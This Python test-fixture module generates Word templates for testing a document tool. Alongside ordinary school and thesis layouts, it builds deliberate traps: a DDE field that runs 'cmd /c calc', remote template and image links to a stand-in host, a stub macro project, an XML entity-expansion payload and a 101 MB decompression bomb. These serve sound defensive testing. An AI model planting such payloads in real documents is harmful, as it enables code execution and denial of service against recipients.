"""Word templates as schools have them, made here: of other names, papers and margins, with pictures, and with traps."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from docx import Document
from docx.document import Document as WordDocument
from docx.enum.section import WD_SECTION
from docx.shared import Cm, Inches, Pt, RGBColor

_NORWEGIAN = {
    "Title": "Tittel",
    "Subtitle": "Undertittel",
    "heading 1": "Overskrift 1",
    "Heading 1": "Overskrift 1",
    "Heading 2": "Overskrift 2",
    "heading 2": "Overskrift 2",
    "Caption": "Bildetekst",
    "caption": "Bildetekst",
    "List Bullet": "Punktliste",
}


def picture() -> bytes:
    """A red square as PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + b"\xc0\x20\x20" * 40 for _ in range(40))
    head = struct.pack(">IIBBBBB", 40, 40, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def saved(document: WordDocument) -> bytes:
    stream = BytesIO()
    document.save(stream)
    return stream.getvalue()


def school() -> WordDocument:
    """A4, wide left margin, Arial, red headings, a header with a picture and a footer of the school's."""
    document = Document()
    section = document.sections[0]
    section.page_width, section.page_height = Cm(21), Cm(29.7)
    section.left_margin, section.right_margin = Cm(4), Cm(2)
    document.styles["Normal"].font.name = "Arial"
    document.styles["Normal"].font.size = Pt(11)
    document.styles["Heading 1"].font.color.rgb = RGBColor(0xC0, 0x20, 0x20)
    document.styles["Heading 1"].font.name = "Arial"
    header = section.header.paragraphs[0]
    header.add_run().add_picture(BytesIO(picture()), width=Cm(1))
    header.add_run("Høgskolen i Fjellbygd")
    section.footer.paragraphs[0].text = "Fakultet for helse og omsorg"
    document.add_paragraph("Innhold i malen som ikke skal med.")
    document.core_properties.author = "Kari Malmaker"
    return document


def norwegian() -> bytes:
    """The same with the names and ids that a program with Norwegian menus writes."""
    document = school()
    for style in document.styles.element.iterfind("{*}style"):
        name = style.find("{*}name")
        key = next(key for key in name.attrib if key.endswith("}val"))
        if name.get(key) in _NORWEGIAN:
            new = _NORWEGIAN[name.get(key)]
            name.set(key, new)
            ident = next(key for key in style.attrib if key.endswith("}styleId"))
            style.set(ident, new.replace(" ", ""))
    return saved(document)


def letter() -> bytes:
    document = Document()
    section = document.sections[0]
    section.page_width, section.page_height = Inches(8.5), Inches(11)
    section.left_margin = section.right_margin = Inches(0.5)
    section.top_margin = section.bottom_margin = Inches(0.5)
    return saved(document)


def thesis() -> bytes:
    """A cover with its own section, a text, the mark, and more text after it; numbered pages from 1 after the cover."""
    document = school()
    document.add_paragraph("Bacheloroppgave", style="Title")
    document.add_section(WD_SECTION.NEW_PAGE)
    document.add_heading("3 Metode", 1)
    document.add_paragraph("Slik ble søket gjort.")
    document.add_paragraph("{{lit").add_run("review}}")
    document.add_heading("4 Diskusjon", 1)
    document.add_paragraph("Her drøftes funnene.")
    return saved(document)


def changed(
    data: bytes, changes: Mapping[str, Callable[[bytes], bytes]], more: Mapping[str, bytes] | None = None
) -> bytes:
    """The archive with some parts changed, and more added."""
    target = BytesIO()
    with ZipFile(BytesIO(data)) as source, ZipFile(target, "w", ZIP_DEFLATED) as file:
        for name in source.namelist():
            file.writestr(name, changes.get(name, bytes)(source.read(name)))
        for name, body in (more or {}).items():
            file.writestr(name, body)
    return target.getvalue()


def macros() -> bytes:
    """A .dotm with a macro project."""
    relation = (
        b'<Relationship Id="rIdMacro" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
        b' Target="vbaProject.bin"/></Relationships>'
    )
    return changed(
        saved(school()),
        {
            "[Content_Types].xml": lambda types: types.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
            ).replace(
                b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
            ),
            "word/_rels/document.xml.rels": lambda rels: rels.replace(b"</Relationships>", relation),
        },
        {"word/vbaProject.bin": b"MACRO"},
    )


def reaching_out() -> bytes:
    """An attached template and a picture on a server, a field that starts a program, tracked names and comments."""
    outside = (
        b'<Relationship Id="rIdFar" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
        b' Target="http://far.example/%s" TargetMode="External"/></Relationships>'
    )
    space = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
        b'<w:r><w:instrText>AUTO cmd "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        b'<w:r><w:t>vist</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return changed(
        thesis(),
        {
            "word/settings.xml": lambda xml: xml.replace(
                b"<w:zoom", b"<w:attachedTemplate " + space + b' r:id="rIdFar"/><w:zoom', 1
            ),
            "word/_rels/document.xml.rels": lambda rels: rels.replace(
                b"</Relationships>", outside % (b"image", b"pixel.png")
            ),
            "word/document.xml": lambda xml: _before_last_section(
                xml, field + b"<w:altChunk " + space + b' r:id="rIdFar"/>'
            ),
        },
        {
            "word/_rels/settings.xml.rels": b'<?xml version="1.0"?><Relationships xmlns='
            b'"http://schemas.openxmlformats.org/package/2006/relationships">'
            + outside
            % (b"attachedTemplate", b"normal.dotm")
        },
    )


def tracked() -> bytes:
    """Tracked changes of every kind, with the name of who made them."""
    who = 'w:id="7" w:author="Kari Malmaker" w:date="2025-02-03T10:00:00Z"'
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    added = (
        f'<w:p w:rsidR="00AB12CD"><w:ins {who}><w:r w:rsidR="00AB12CD"><w:t>settes inn</w:t></w:r></w:ins>'
        f"<w:del {who}><w:r><w:delText>strykes</w:delText></w:r></w:del></w:p>"
        f'<w:moveFromRangeStart {who} w:name="m"/>'
        f"<w:p><w:moveFrom {who}><w:r><w:t>strykes</w:t></w:r></w:moveFrom></w:p>"
        f"<w:p><w:moveTo {who}><w:r><w:rPr><w:b/><w:rPrChange {who}><w:rPr/></w:rPrChange></w:rPr>"
        f"<w:t>flyttes hit</w:t></w:r></w:moveTo></w:p>"
        f"<w:p><w:pPr><w:rPr><w:ins {who}/></w:rPr></w:pPr><w:r><w:t>ny</w:t></w:r></w:p>"
        f"<w:p><w:pPr><w:rPr><w:del {who}/></w:rPr></w:pPr>"
        f"<w:del {who}><w:r><w:delText>strykes</w:delText></w:r></w:del></w:p>"
        f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr>{cell.format('rad')}</w:tr>"
        f"<w:tr><w:trPr><w:del {who}/></w:trPr>{cell.format('strykes')}</w:tr></w:tbl><w:p/>"
    )
    return changed(thesis(), {"word/document.xml": lambda xml: _before_last_section(xml, added.encode("utf-8"))})


def bodiless() -> bytes:
    """A document without a body."""
    space = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return changed(saved(school()), {"word/document.xml": lambda _: b'<w:document xmlns:w="' + space + b'"/>'})


def _before_last_section(xml: bytes, added: bytes) -> bytes:
    at = xml.rindex(b"<w:sectPr")
    return xml[:at] + added + xml[at:]


def entities() -> bytes:
    bomb = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]>'
    return changed(saved(school()), {"word/styles.xml": lambda xml: xml.replace(b"<w:styles", bomb + b"<w:styles", 1)})


def bomb() -> bytes:
    """101 MB of nothing in a small file."""
    return changed(saved(school()), {}, {"word/media/zeros.bin": bytes(101 << 20)})
